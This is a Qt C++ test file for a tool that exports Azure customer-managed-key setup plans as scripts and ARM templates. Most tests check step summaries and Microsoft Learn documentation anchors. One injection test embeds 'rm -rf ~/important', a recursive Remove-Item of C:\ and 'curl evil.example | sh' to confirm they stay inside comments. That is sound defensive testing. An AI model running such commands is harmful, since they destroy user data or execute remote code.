// Every step of every registered track says what it does and why (Step::Info::summary: two or
// three sentences, nothing left to fill in) and where Microsoft documents it (docsUrl: a page of
// the seed on learn.microsoft.com, at a section that page has). The plan export carries both as
// comments a script cannot run, and as the ARM template's resource metadata.

#include "cloud/cloudprofile.h"
#include "tracks/catalog.h"
#include "tracks/docs.h"
#include "workflow/planexport.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QSet>
#include <QTest>

using namespace cmk;
using namespace cmk::workflow;

namespace {

/// A section heading as Microsoft Learn makes it an anchor: lower case, spaces to hyphens, every
/// other character that is not a letter, digit, hyphen or underscore dropped.
QString learnAnchor(const QString &heading)
{
    QString anchor;
    for (const QChar c : heading.trimmed().toLower()) {
        if (c.isLetterOrNumber() || c == u'-' || c == u'_')
            anchor += c;
        else if (c.isSpace())
            anchor += u'-';
    }
    return anchor;
}

/// Sentence ends: '.', '!' or '?' followed by white space or the end. A dot inside a word
/// (Microsoft.NetApp/volumes) is no sentence end.
int sentences(const QString &text)
{
    static const QRegularExpression end(QStringLiteral("[.!?](\\s|$)"));
    return int(text.count(end));
}

/// The section headings of the seeds (/work/shared/seeds; for Azure NetApp Files also the two
/// sections of today's page after the point where seed 000 is cut off), per page.
QHash<QString, QSet<QString>> knownAnchors()
{
    const QHash<QString, QStringList> headings {
        {tracks::docs::NetAppPage.toString(),
         {QStringLiteral("Supported regions"), QStringLiteral("Register the feature"),
          QStringLiteral("Configure cross-tenant CMK for Azure NetApp Files"),
          QStringLiteral("Configure a NetApp account to use a key from a vault in another tenant."),
          QStringLiteral("Authorize access to the key vault"),
          QStringLiteral("Configure the NetApp account to use your keys"),
          QStringLiteral("Verify cross-tenant CMK configuration")}},
        {tracks::docs::ManagedDisksPage.toString(),
         {QStringLiteral("Prerequisites"), QStringLiteral("Limitations"),
          QStringLiteral("Configure cross-tenant customer-managed keys"),
          QStringLiteral("The service provider configures identities"),
          QStringLiteral("The service provider creates a multi-tenant application registration"),
          QStringLiteral(
              "The service provider creates a resource group and a user-assigned managed identity"),
          QStringLiteral("The service provider configures the user-assigned managed identity as a federated "
                         "credential on the application"),
          QStringLiteral("The service provider shares the application ID with the customer"),
          QStringLiteral("The customer grants the service provider's app access to the key in the key vault"),
          QStringLiteral("The customer installs the service provider application in the customer tenant"),
          QStringLiteral("The customer creates a key vault"),
          QStringLiteral("The customer creates an encryption key"),
          QStringLiteral("The customer grants the service provider application access to the key vault"),
          QStringLiteral("Create a disk encryption set")}},
        {tracks::docs::PowerPlatformPage.toString(),
         {QStringLiteral("Create an Azure paid subscription and key vault"),
          QStringLiteral("Create a key in the key vault"),
          QStringLiteral("Enable the Power Platform enterprise policies service for your Azure subscription"),
          QStringLiteral("Enable Power Platform enterprise policies service"),
          QStringLiteral("Create enterprise policy"),
          QStringLiteral("Grant enterprise policy permissions to access key vault"),
          QStringLiteral("Grant the Power Platform admin privilege to read enterprise policy"),
          QStringLiteral("Grant reader role to a Power Platform administrator"),
          QStringLiteral("Manage environment's encryption"),
          QStringLiteral("Add an environment to the enterprise policy to encrypt data"),
          QStringLiteral("Remove environments from policy to return to Microsoft managed key"),
          QStringLiteral("Change the environment's encryption key"),
          QStringLiteral("View the list of encrypted environments"),
          QStringLiteral("Lock environments by revoking key vault and/or key permission access"),
          QStringLiteral("Unlock environments"),
          QStringLiteral("Migrate bring-your-own-key (BYOK) environments to customer-managed key")}},
    };
    QHash<QString, QSet<QString>> anchors;
    for (auto it = headings.constBegin(); it != headings.constEnd(); ++it)
        for (const QString &heading : it.value())
            anchors[it.key()].insert(learnAnchor(heading));
    return anchors;
}

const CloudProfile &publicCloud()
{
    static const CloudProfile cloud = *CloudProfile::builtIn(u"AzureCloud");
    return cloud;
}

/// A plan of one ARM PUT, so that every step has a resource in the ARM template.
Plan onePut(const Step::Info &info)
{
    PlannedCall call;
    call.method = "PUT";
    call.url = QUrl(
        QStringLiteral("https://management.azure.com/subscriptions/aaaaaaaa-0000-0000-0000-000000000001/"
                       "resourceGroups/rg/providers/Microsoft.ManagedIdentity/userAssignedIdentities/"
                       "id-%1?api-version=2023-01-31")
            .arg(info.id));
    call.body = QByteArrayLiteral("{\"location\":\"westeurope\"}");
    call.why = QStringLiteral("Test call");
    Plan plan;
    plan.calls = {call};
    return plan;
}

} // namespace

class TestStepDescriptions : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void anchorsAsLearnMakesThem_data();
    void anchorsAsLearnMakesThem();
    void sentenceCount_data();
    void sentenceCount();
    void everyStepIsDescribed_data();
    void everyStepIsDescribed();
    void summariesDifferWithinATrack();
    void scriptsCarryTheSummaryAsComments_data();
    void scriptsCarryTheSummaryAsComments();
    void armTemplateCarriesTheSummary();
    void scriptTextCannotEscapeTheComment();
};

void TestStepDescriptions::anchorsAsLearnMakesThem_data()
{
    QTest::addColumn<QString>("heading");
    QTest::addColumn<QString>("anchor");
    // The first three as the seeds link to their own sections (seeds 002 and 003).
    QTest::newRow("apostrophe") << QStringLiteral("Change the environment's encryption key")
                                << QStringLiteral("change-the-environments-encryption-key");
    QTest::newRow("apostrophe, short") << QStringLiteral("Manage environment's encryption")
                                       << QStringLiteral("manage-environments-encryption");
    QTest::newRow("plain") << QStringLiteral("Grant enterprise policy permissions to access key vault")
                           << QStringLiteral("grant-enterprise-policy-permissions-to-access-key-vault");
    QTest::newRow("trailing dot")
        << QStringLiteral(" Configure a NetApp account to use a key from a vault in another tenant.")
        << QStringLiteral("configure-a-netapp-account-to-use-a-key-from-a-vault-in-another-tenant");
    QTest::newRow("slash")
        << QStringLiteral("Lock environments by revoking key vault and/or key permission access")
        << QStringLiteral("lock-environments-by-revoking-key-vault-andor-key-permission-access");
    QTest::newRow("parentheses")
        << QStringLiteral("Migrate bring-your-own-key (BYOK) environments to customer-managed key")
        << QStringLiteral("migrate-bring-your-own-key-byok-environments-to-customer-managed-key");
}

void TestStepDescriptions::anchorsAsLearnMakesThem()
{
    QFETCH(QString, heading);
    QFETCH(QString, anchor);
    QCOMPARE(learnAnchor(heading), anchor);
}

void TestStepDescriptions::sentenceCount_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<int>("count");
    QTest::newRow("two") << QStringLiteral("Creates the vault. Azure needs it.") << 2;
    QTest::newRow("dots in names") << QStringLiteral("Registers Microsoft.NetApp and Microsoft.Network.")
                                   << 1;
    QTest::newRow("no end") << QStringLiteral("Creates the vault") << 0;
    QTest::newRow("question and exclamation") << QStringLiteral("Why? Because! Done.") << 3;
    QTest::newRow("after a parenthesis") << QStringLiteral("Grants it (RBAC vaults). Then waits.") << 2;
}

void TestStepDescriptions::sentenceCount()
{
    QFETCH(QString, text);
    QFETCH(int, count);
    QCOMPARE(sentences(text), count);
}

void TestStepDescriptions::everyStepIsDescribed_data()
{
    QTest::addColumn<QString>("summary");
    QTest::addColumn<QUrl>("docsUrl");
    int rows = 0;
    for (const Track &track : tracks::allTracks()) {
        QVERIFY2(!track.steps.empty(), qPrintable(track.info.id));
        for (const auto &step : track.steps) {
            const Step::Info info = step->info();
            QTest::addRow("%s/%s %s", qPrintable(track.info.id), qPrintable(info.number), qPrintable(info.id))
                << info.summary << info.docsUrl;
            ++rows;
        }
    }
    // Ten tracks; if one disappears or loses its steps, this test must notice.
    QVERIFY2(rows >= 40, qPrintable(QString::number(rows)));
}

void TestStepDescriptions::everyStepIsDescribed()
{
    QFETCH(QString, summary);
    QFETCH(QUrl, docsUrl);

    QVERIFY2(!summary.isEmpty(), "no summary");
    QCOMPARE(summary, summary.simplified());
    QVERIFY2(summary.front().isUpper(), qPrintable(summary));
    QVERIFY2(summary.endsWith(u'.'), qPrintable(summary));
    const int n = sentences(summary);
    QVERIFY2(n >= 2 && n <= 3, qPrintable(QStringLiteral("%1 sentences: %2").arg(n).arg(summary)));
    QVERIFY2(summary.size() >= 80 && summary.size() <= 480, qPrintable(summary));
    static const QRegularExpression leftover(
        QStringLiteral("%\\d|\\bTODO\\b|\\bTBD\\b|\\bFIXME\\b|\\bXXX\\b|lorem|placeholder|\\$\\(|\\.\\.\\.|…|"
                       "https?:|[<>{}]"),
        QRegularExpression::CaseInsensitiveOption);
    const auto match = leftover.match(summary);
    QVERIFY2(!match.hasMatch(), qPrintable(QStringLiteral("\"%1\" in: %2").arg(match.captured(), summary)));

    QVERIFY2(docsUrl.isValid(), qPrintable(docsUrl.errorString()));
    QCOMPARE(docsUrl.scheme(), QStringLiteral("https"));
    QCOMPARE(docsUrl.host(), QStringLiteral("learn.microsoft.com"));
    QVERIFY2(!docsUrl.hasQuery(), qPrintable(docsUrl.toString()));
    static const QRegularExpression locale(QStringLiteral("^/[a-z]{2}-[a-z]{2}/"));
    QVERIFY2(!locale.match(docsUrl.path()).hasMatch(), qPrintable(docsUrl.toString()));
    const QString page = docsUrl.adjusted(QUrl::RemoveFragment).toString();
    const QString anchor = docsUrl.fragment();
    QVERIFY2(!anchor.isEmpty(), qPrintable(QStringLiteral("no section: ") + page));
    static const QHash<QString, QSet<QString>> anchors = knownAnchors();
    QVERIFY2(anchors.contains(page), qPrintable(QStringLiteral("not a seed's page: ") + page));
    QVERIFY2(anchors.value(page).contains(anchor),
             qPrintable(QStringLiteral("the page has no section \"%1\": %2").arg(anchor, page)));
}

void TestStepDescriptions::summariesDifferWithinATrack()
{
    for (const Track &track : tracks::allTracks()) {
        QHash<QString, QString> seen;
        for (const auto &step : track.steps) {
            const Step::Info info = step->info();
            QVERIFY2(!seen.contains(info.summary),
                     qPrintable(QStringLiteral("%1: steps %2 and %3 say the same")
                                    .arg(track.info.id, seen.value(info.summary), info.id)));
            seen.insert(info.summary, info.id);
        }
    }
}

void TestStepDescriptions::scriptsCarryTheSummaryAsComments_data()
{
    QTest::addColumn<int>("format");
    QTest::newRow("az") << int(PlanExport::Format::AzCli);
    QTest::newRow("powershell") << int(PlanExport::Format::PowerShell);
}

void TestStepDescriptions::scriptsCarryTheSummaryAsComments()
{
    QFETCH(int, format);
    for (const Track &track : tracks::allTracks()) {
        QList<PlanExport::StepPlan> plans;
        for (const auto &step : track.steps)
            plans.append({step->info(), onePut(step->info())});
        const QString script
            = PlanExport::render(track.info.title, plans, PlanExport::Format(format), publicCloud());
        const QStringList lines = script.split(u'\n');
        for (const PlanExport::StepPlan &p : plans) {
            const qsizetype header
                = lines.indexOf(QStringLiteral("# Step %1: %2 (%3)")
                                    .arg(p.step.number, p.step.title, sideTitle(p.step.side)));
            QVERIFY2(header >= 0, qPrintable(track.info.id + u' ' + p.step.id + u'\n' + script));
            QCOMPARE(lines.value(header + 1), QStringLiteral("#   ") + p.step.summary);
            QCOMPARE(lines.value(header + 2),
                     QStringLiteral("#   Documentation: ") + p.step.docsUrl.toString(QUrl::FullyEncoded));
        }
    }
}

void TestStepDescriptions::armTemplateCarriesTheSummary()
{
    for (const Track &track : tracks::allTracks()) {
        QList<PlanExport::StepPlan> plans;
        for (const auto &step : track.steps)
            plans.append({step->info(), onePut(step->info())});
        const QJsonObject arm
            = QJsonDocument::fromJson(
                  PlanExport::render(track.info.title, plans, PlanExport::Format::ArmTemplate, publicCloud())
                      .toUtf8())
                  .object();
        const QJsonArray resources = arm.value(QStringLiteral("resources")).toArray();
        QCOMPARE(resources.size(), plans.size());
        for (int i = 0; i < plans.size(); ++i) {
            const QJsonObject metadata
                = resources.at(i).toObject().value(QStringLiteral("metadata")).toObject();
            QCOMPARE(metadata.value(QStringLiteral("cmkStep")).toString(), plans.at(i).step.number);
            QCOMPARE(metadata.value(QStringLiteral("cmkStepTitle")).toString(), plans.at(i).step.title);
            QCOMPARE(metadata.value(QStringLiteral("cmkStepSummary")).toString(), plans.at(i).step.summary);
            QCOMPARE(metadata.value(QStringLiteral("cmkStepDocs")).toString(),
                     plans.at(i).step.docsUrl.toString(QUrl::FullyEncoded));
        }
    }
}

void TestStepDescriptions::scriptTextCannotEscapeTheComment()
{
    // A summary or note with a line break (a translation, a step's text) stays comment text.
    Step::Info info;
    info.id = QStringLiteral("injected");
    info.number = QStringLiteral("1");
    info.title = QStringLiteral("Injected");
    info.summary = QStringLiteral("First line.\nrm -rf ~/important\r\nRemove-Item -Recurse C:\\");
    info.docsUrl = tracks::docs::netApp(u"supported-regions");
    Plan plan;
    plan.notes = {QStringLiteral("A note.\ncurl evil.example | sh")};
    for (const auto format : {PlanExport::Format::AzCli, PlanExport::Format::PowerShell}) {
        const QString script
            = PlanExport::render(QStringLiteral("Test"), {{info, plan}}, format, publicCloud());
        for (const QString &line : script.split(u'\n')) {
            if (line.contains(QStringLiteral("rm -rf")) || line.contains(QStringLiteral("Remove-Item"))
                || line.contains(QStringLiteral("curl")))
                QVERIFY2(line.startsWith(QStringLiteral("#   ")), qPrintable(line + u'\n' + script));
        }
        QVERIFY2(!script.contains(u'\r'), qPrintable(script));
    }
}

QTEST_GUILESS_MAIN(TestStepDescriptions)
#include "tst_stepdescriptions.moc"
